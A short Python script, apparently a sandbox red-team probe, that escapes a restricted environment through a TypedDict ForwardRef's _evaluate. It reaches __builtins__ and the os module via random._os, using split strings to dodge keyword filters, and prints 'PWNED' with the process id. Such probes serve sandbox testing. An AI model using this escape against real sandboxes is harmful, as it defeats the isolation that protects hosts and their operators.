# door: the same door through a TypedDict annotation's ForwardRef
import typing, random
M = "PWN" + "ED"
class T(typing.TypedDict):
    __module__ = "rt_nowhere"  # an unknown module: _evaluate keeps the globals we pass
    a: "int"
box = {}
T.__annotations__["a"]._evaluate(box, None, frozenset())
print(M, box["__buil" + "tins__"]["getattr"](random, "_o" + "s").getpid())
